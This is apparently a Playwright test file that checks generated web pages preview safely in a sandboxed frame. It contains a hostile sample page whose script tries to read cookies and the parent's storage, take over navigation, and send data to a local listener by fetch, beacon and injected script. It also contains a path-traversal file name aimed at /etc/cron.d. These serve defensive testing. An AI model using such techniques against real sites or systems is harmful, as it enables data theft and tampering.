"""Generated pages run where they can harm nobody: answered from examples, without a network, told when they fail."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from functools import partial

from autocrea.testkit.browser import PHONE, OpenScreen, Screen
from autocrea.testkit.stack import Stack
from autocrea.testkit.waiting import eventually
from playwright.async_api import FrameLocator, expect


class Stranger:
    """A server that nobody should ever ask for anything.

    A browser may open a connection before it sees that a navigation is forbidden; it must say nothing on it.
    """

    def __init__(self) -> None:
        self.url = ""
        self.asked: list[bytes] = []

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if line := await reader.readline():
            self.asked.append(line)
        writer.close()


@asynccontextmanager
async def stranger() -> AsyncIterator[Stranger]:
    heard = Stranger()
    server = await asyncio.start_server(heard.answer, "127.0.0.1", 0)
    async with server:
        heard.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        yield heard


def hostile(url: str) -> str:
    """A page that tries whatever a script can try, and writes down what it got."""
    return f"""<!doctype html><html lang="es"><head><title>Hostil</title>
<meta http-equiv="refresh" content="2;url={url}/refresh"><base href="{url}/">
<link rel="stylesheet" href="{url}/style.css"></head><body><h1>Hostil</h1><p id="got"></p>
<img src="{url}/image.png" alt="x"><iframe src="{url}/frame"></iframe>
<form id="form" action="{url}/form" method="post"></form>
<script>
const got = [];
const attempt = (name, act) => {{
  try {{ act(); got.push(name + ": hecho"); }} catch {{ got.push(name + ": denegado"); }}
}};
attempt("padre", () => parent.document.body.remove());
attempt("cookies", () => document.cookie);
attempt("arriba", () => {{ top.location.href = "{url}/top"; }});
attempt("sesión", () => parent.localStorage.getItem("autocrea.language"));
new Image().src = "{url}/pixel";
fetch("{url}/fetch").catch(() => undefined);
navigator.sendBeacon("{url}/beacon", "x");
document.head.append(Object.assign(document.createElement("script"), {{ src: "{url}/script.js" }}));
window.open("{url}/open");
document.getElementById("form").submit();
const inner = document.body.appendChild(document.createElement("iframe"));
attempt("otra ventana", () => inner.contentWindow.fetch("{url}/inner").catch(() => undefined));
for (let n = 0; n < 5000; n++) parent.postMessage({{ preview: "error", text: "ruido " + n }}, "*");
document.getElementById("got").textContent = got.join(", ");
setTimeout(() => {{ throw new Error("a propósito"); }}, 1500);
</script>
<p><button onclick="location.href = '{url}/self'">Salir</button></p></body></html>"""


def framed(screen: Screen) -> FrameLocator:
    return screen.page.frame_locator('iframe[title^="Preview de"]')


async def is_wide(frame: FrameLocator, width: int) -> bool:
    return bool(await frame.locator("body").evaluate("() => window.innerWidth") == width)


async def test_pages_work_on_example_data_when_an_application_has_some(
    stack: Stack, open_screen: OpenScreen
) -> None:
    async with stack.person() as person:
        screen = await open_screen(stack)
        page, frame = screen.page, framed(screen)
        await screen.enter(person.account)
        await screen.create("vista")
        await screen.until_status("completed", "completed_with_warnings")
        await page.get_by_role("link", name="Preview", exact=True).click()
        await expect(page.get_by_text("Datos de ejemplo", exact=True)).to_be_visible()
        await expect(frame.get_by_role("heading", level=1)).to_be_visible()
        await frame.get_by_label("Nombre").fill("Lucía")
        await frame.get_by_label("Correo electrónico").fill("lucia@example.com")
        await frame.get_by_label("Mensaje").fill("Hola, quiero una página.")
        await frame.get_by_role("button", name="Enviar mensaje").click()
        await expect(frame.get_by_text("k3x9Zq7LrT2w").first).to_be_visible()  # the contract's example
        await page.get_by_text("Peticiones respondidas con datos de ejemplo").click()
        await expect(page.get_by_text("POST /api/messages")).to_be_visible()
        await expect(page.get_by_text("Sin errores.")).to_be_visible()
        for name, width in (("Móvil", 390), ("Tableta", 768), ("Escritorio", 1280)):
            await page.get_by_role("radio", name=name).check(force=True)
            await eventually(partial(is_wide, frame, width), what=f"the page is {width} wide")


async def test_routes_and_readme_are_shown_when_an_application_has_no_pages(
    stack: Stack, open_screen: OpenScreen
) -> None:
    async with stack.person() as person:
        screen = await open_screen(stack, size=PHONE)
        page = screen.page
        await screen.enter(person.account)
        generation_id = await person.generate("sin-paginas", pipeline="api")
        await person.end(generation_id)
        project_id = (await person.generation(generation_id))["project_id"]
        await page.goto(f"{stack.url}/proyectos/{project_id}/generaciones/{generation_id}/preview")
        await expect(page.get_by_text("Esta aplicación no tiene páginas")).to_be_visible()
        await expect(page.get_by_role("region", name="Rutas")).to_contain_text("GET")
        await expect(page.get_by_role("region", name="README")).to_contain_text("sin-paginas")
        assert await page.locator("iframe").count() == 0


async def test_nothing_leaves_and_nothing_changes_when_a_page_is_hostile(
    stack: Stack, open_screen: OpenScreen
) -> None:
    project = "hostil"
    async with stranger() as heard, stack.person() as person:
        files = [
            {"path": "frontend/index.html", "text": hostile(heard.url)},
            {"path": "../../etc/cron.d/x", "text": "* * * * * root true\n"},
        ]
        async with stack.simulated.rule(
            match={"project": project, "step": "frontend"}, effect={"extra_files": files}
        ):
            screen = await open_screen(stack)
            page, frame = screen.page, framed(screen)
            await screen.enter(person.account)
            generation_id = await screen.create(project)
            await screen.until_status("completed", "completed_with_warnings")
        paths = {
            file["path"] for file in (await person.get(f"/api/generations/{generation_id}/files"))["items"]
        }
        assert "frontend/app.js" in paths
        assert not any("cron" in path for path in paths)
        await page.get_by_role("link", name="Preview", exact=True).click()
        address = page.url
        await expect(frame.locator("#got")).to_have_text(
            "padre: denegado, cookies: denegado, arriba: denegado, sesión: denegado, otra ventana: denegado"
        )
        await expect(page.get_by_text("ruido 0", exact=True)).to_be_visible()
        assert await page.locator('[data-report="errors"] li').count() <= 30
        await frame.get_by_role("button", name="Salir").dispatch_event("click")
        await expect(page.get_by_text("La página se fue o dejó de responder")).to_be_visible()
        assert page.url == address
        await expect(page.get_by_role("heading", name=project)).to_be_visible()
        await page.get_by_role("button", name="Recargar").last.click()
        await expect(frame.get_by_role("heading", name="Hostil")).to_be_visible()
        await page.get_by_role("link", name="Seguridad").click()
        await expect(page.get_by_text("cron.d").first).to_be_visible()
        assert heard.asked == []
        screen.troubles.clear()  # what the browser refused to the frame, one line each
        screen.foreign.clear()
